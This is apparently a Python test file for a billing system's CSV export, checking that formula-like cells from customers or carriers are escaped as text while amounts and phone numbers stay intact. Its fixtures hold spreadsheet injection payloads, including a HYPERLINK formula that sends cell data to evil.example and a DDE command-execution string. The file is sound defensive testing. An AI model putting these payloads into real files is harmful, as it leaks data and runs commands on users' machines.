"""CSV for spreadsheets (reports, itemised call lists): a cell a customer or carrier
could choose is never run as a formula, and numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime

from ocs.billing.itemised import CallRow, calls_csv
from ocs.billing.report_export import Table, to_csv


def cells(text: str) -> list[list[str]]:
    """The CSV text read back as a spreadsheet would load it."""
    return list(csv.reader(io.StringIO(text)))


def test_a_report_writes_formula_like_names_as_text_and_keeps_amounts() -> None:
    table = Table(
        ("period", "currency", "zone", "lines", "revenue"),
        [
            ("2026-11", "EUR", '=HYPERLINK("http://evil.example/?"&A1,"UK")', "3", "1.500000"),
            ("2026-11", "EUR", "@SUM(A1:A9)", "1", "-0.250000"),
            ("2026-11", "EUR", "-2+3", "1", "0.000000"),
            ("2026-11", "EUR", "UK - Mobile", "2", "+4.000000"),
        ],
    )
    rows = cells(to_csv(table))
    assert [r[2] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"UK")',
        "'@SUM(A1:A9)",
        "'-2+3",
        "UK - Mobile",
    ]
    assert [r[4] for r in rows[1:]] == ["1.500000", "-0.250000", "0.000000", "+4.000000"]


def test_an_itemised_list_keeps_international_callers_and_quotes_a_formula() -> None:
    at = datetime(2026, 11, 3, 9, 0, tzinfo=UTC)
    rows = [
        CallRow(at, "+442071234567", None, "442071234567", "UK", "outbound", 60, 60, 20_000,
                "EUR", "1-0"),
        CallRow(at, "=cmd|' /C calc'!A0", "+1", "33142685300", "France", "outbound", 6, 6,
                3_000, "EUR", "2-0"),
    ]  # fmt: skip
    out = cells(calls_csv(rows))
    assert [(r[1], r[2]) for r in out[1:]] == [
        ("+442071234567", ""),
        ("'=cmd|' /C calc'!A0", "+1"),
    ]
